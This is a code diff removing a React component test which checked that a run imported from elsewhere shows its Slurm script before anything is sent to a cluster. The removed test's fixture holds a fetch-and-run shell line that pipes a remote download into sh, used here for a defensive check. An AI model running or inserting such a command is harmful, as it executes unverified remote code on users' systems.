@@ -4,8 +4,6 @@ import { expect, it } from 'vitest';
 import { madeRuns } from '../../testing/memoryEngine/runs.ts';
 import { engine } from '../../state/connection.ts';
 import { renderWithEngine } from '../../testing/render.tsx';
-import { useRunDialog } from '../../state/runs/runDialog.ts';
-import { DevicesDialog } from './DevicesDialog.tsx';
 import { RunMenu } from './RunMenu.tsx';
 
 const [run] = madeRuns(Date.now()).filter((candidate) => candidate.state.phase === 'done');
@@ -65,32 +63,4 @@ it('resumes a resting run on the ticked devices', async () => {
     expect(continued?.request.devices).toMatch(/^GPU-[0-9a-f-]+$/);
     break;
   }
-});
-
-it('shows the cluster named in a run from elsewhere before anything is sent there', async () => {
-  const resting = madeRuns(Date.now()).find(({ state }) => state.phase === 'paused');
-  if (!resting) throw new Error('The invented runs hold none that is paused');
-  const script = '#!/bin/sh\ncurl example.org | sh';
-  const foreign = {
-    ...resting,
-    foreignPlace: { kind: 'slurm', script, shares: 1, on_processors: true } as const,
-  };
-  const user = userEvent.setup();
-  const { unmount } = await renderWithEngine(<RunMenu run={foreign} />);
-  await user.click(screen.getByRole('button', { name: `Actions for ${foreign.name}` }));
-  await user.click(await screen.findByRole('menuitem', { name: 'Continue', hidden: true }));
-  await waitFor(() =>
-    expect(useRunDialog.getState().open).toEqual({ runId: foreign.runId, dialog: 'devices' }),
-  );
-  for await (const runs of await engine.runs.watchAll()) {
-    expect(runs.find(({ runId }) => runId === foreign.runId)).toMatchObject({
-      starting: false,
-      queuePosition: null,
-    });
-    break;
-  }
-  unmount();
-  await renderWithEngine(<DevicesDialog run={foreign} onClose={() => undefined} />);
-  expect(await screen.findByText('curl example.org', { exact: false })).toBeTruthy();
-  expect(screen.queryByRole('radio')).toBeNull();
 });
